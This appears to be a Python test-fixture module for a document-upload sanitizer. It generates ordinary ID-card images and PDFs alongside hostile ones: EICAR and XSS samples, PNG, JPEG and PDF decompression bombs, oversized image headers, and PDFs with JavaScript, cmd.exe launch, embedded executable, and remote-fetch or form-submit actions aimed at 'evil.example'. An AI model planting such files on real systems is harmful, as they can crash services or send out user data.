"""Good files and hostile ones, made here: nothing binary comes from outside."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image, ImageDraw

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MARK = b"<script>alert(document.domain)</script>"


def sent(content: bytes, name: str = "ktp.jpg", content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type)


def card(mode: str = "RGB", size: tuple[int, int] = (640, 400), *, top: Any = None) -> Image.Image:
    """A card: light, with a dark corner top left, so that turning it can be seen."""
    image = Image.new("RGB", size, (240, 240, 230))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, size[0] // 4, size[1] // 4), fill=top or (200, 30, 30))
    draw.text((size[0] // 3, size[1] // 2), "NIK 3204101708900003", fill=(20, 20, 20))
    return image if mode == "RGB" else image.convert(mode)


def written(image: Image.Image, form: str, **options: Any) -> bytes:
    out = BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def jpeg(**options: Any) -> bytes:
    return written(card(), "JPEG", **options)


def png(mode: str = "RGB", **options: Any) -> bytes:
    return written(card(mode), "PNG", **options)


def photo_with_place(orientation: int = 1) -> bytes:
    """As a phone takes it: where, when, with what, and how it was held."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8825)[1] = "S"
    exif.get_ifd(0x8825)[2] = (6.0, 12.0, 31.0)
    return written(card(), "JPEG", exif=exif, comment=b"secret comment")


def sixteen_bit() -> bytes:
    image = Image.new("I;16", (300, 200), 40_000)
    return written(image, "PNG")


def animated_png() -> bytes:
    frames = [card(top=(0, 0, 200)), card(top=(0, 200, 0))]
    return written(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=50)


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def huge_png(width: int, height: int, *, rows: bool = False) -> bytes:
    """One bit a pixel, so that a few kilobytes say very many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" + bytes((width + 7) // 8)
    packer, packed = zlib.compressobj(9), b""
    for _ in range(height if rows else 1):
        packed += packer.compress(row)
    packed += packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A note in a PNG that unpacks to 200 MB."""
    note = b"Comment\x00\x00" + zlib.compress(bytes(200 * 1024 * 1024), 9)
    whole = png()
    return whole[:33] + chunk(b"zTXt", note) + whole[33:]


def huge_jpeg(side: int = 30_000) -> bytes:
    """The head says 30,000 x 30,000."""
    whole = bytearray(jpeg())
    place = whole.index(b"\xff\xc0")
    whole[place + 5 : place + 9] = struct.pack(">HH", side, side)
    return bytes(whole)


def archive(name: str = "evil.html", content: bytes = MARK) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr(name, content)
    return out.getvalue()


def pdf(pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    """A PDF whose pages show a black square; ``change`` makes it worse."""
    made, out = pikepdf.new(), BytesIO()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
        made.pages[-1].obj.Contents = Stream(made, b"0 g 100 500 200 200 re f")
    if change:
        change(made)
    made.save(out, **options)
    return out.getvalue()


def with_metadata(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = "Ayu Lestari"
    with made.open_metadata() as meta:
        meta["dc:creator"] = ["Ayu Lestari"]


def with_open_page(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])


def with_link(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.URI, URI="https://bank.example/")
    made.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)]
    )


def with_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def with_named_script(made: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", made.make_indirect(script)])))


def with_page_action(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def with_launch(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.Launch, F="cmd.exe")
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    made.pages[0].obj.Annots = Array([note])


def with_remote(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.GoToR, F="//evil.example/share.pdf", D=Array([0, Name.Fit]))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    made.pages[0].obj.Annots = Array([note])


def with_attachment(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ"


def with_xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=Stream(made, b"<xdp:xdp/>"), Fields=Array([]))


def with_rich_media(made: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    made.pages[0].obj.Annots = Array([note])


def with_outside_stream(made: pikepdf.Pdf) -> None:
    stream = Stream(made, b"")
    stream.F = "//evil.example/x"
    made.pages[0].obj.Contents = stream


def with_submit(made: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F="https://evil.example/")
    made.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), A=action)]
    )


def with_content_bomb(made: pikepdf.Pdf) -> None:
    stream = Stream(made, zlib.compress(b"0" * (400 << 20), 9))
    stream.Filter = Name.FlateDecode
    made.pages[0].obj.Contents = stream


def with_endless_form(made: pikepdf.Pdf) -> None:
    """Thirty forms, each of which draws the next ten times."""
    inner = None
    for _ in range(30):
        form = Stream(made, b"/F Do " * 10 if inner is not None else b"0 0 10 10 re f")
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 100, 100])
        if inner is not None:
            form.Resources = Dictionary(XObject=Dictionary(F=inner))
        inner = made.make_indirect(form)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=inner))
    made.pages[0].obj.Contents = Stream(made, b"/F Do")


def with_deep_nesting(made: pikepdf.Pdf) -> None:
    inner: Any = Array([])
    for _ in range(60):
        inner = Array([inner])
    made.Root.Deep = made.make_indirect(inner)


def with_many_objects(made: pikepdf.Pdf) -> None:
    made.Root.Many = Array([made.make_indirect(Dictionary(N=n)) for n in range(20_500)])


def good_files() -> dict[str, tuple[bytes, str]]:
    """Fifty files as people have them: content and file name."""
    files: dict[str, tuple[bytes, str]] = {}
    for mode in ("RGB", "RGBA", "L", "LA", "P", "1"):
        files[f"png-{mode}"] = (png(mode), f"scan {mode}.png")
    for mode in ("RGB", "L", "CMYK"):
        files[f"jpeg-{mode}"] = (written(card(mode), "JPEG"), f"foto-{mode}.jpg")
    for quality in (10, 40, 75, 95):
        files[f"jpeg-quality-{quality}"] = (jpeg(quality=quality), "IMG_2041.JPG")
        files[f"jpeg-progressive-{quality}"] = (jpeg(quality=quality, progressive=True), "IMG_2042.jpeg")
    for turn in range(1, 9):
        files[f"jpeg-turned-{turn}"] = (photo_with_place(turn), f"PXL_{turn}.jpg")
    for size in ((80, 50), (1280, 960), (4032, 3024), (3024, 4032), (6000, 4000), (12_000, 600)):
        files[f"jpeg-{size[0]}x{size[1]}"] = (written(card(size=size), "JPEG"), "DSC00012.JPG")
        files[f"png-{size[0]}x{size[1]}"] = (written(card(size=size), "PNG"), "Screenshot 2026-11-21.png")
    files["png-16-bit"] = (sixteen_bit(), "scan16.png")
    files["png-interlaced-with-note"] = (png() + b"trailing bytes of some camera", "x.png")
    files["jpeg-with-trailer"] = (jpeg() + archive("motion.mp4"), "motion.jpg")
    for pages in (1, 2, 5, 20):
        files[f"pdf-{pages}"] = (pdf(pages), f"rekening {pages}.pdf")
    files["pdf-metadata"] = (pdf(1, with_metadata), "laporan.pdf")
    files["pdf-opens-on-page"] = (pdf(1, with_open_page), "latex.pdf")
    files["pdf-link"] = (pdf(1, with_link), "e-statement.pdf")
    files["pdf-old"] = (pdf(1, min_version="1.3"), "tua.pdf")
    files["pdf-linear"] = (pdf(3, linearize=True), "web.pdf")
    files["pdf-object-streams"] = (
        pdf(3, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "modern.pdf",
    )
    return files
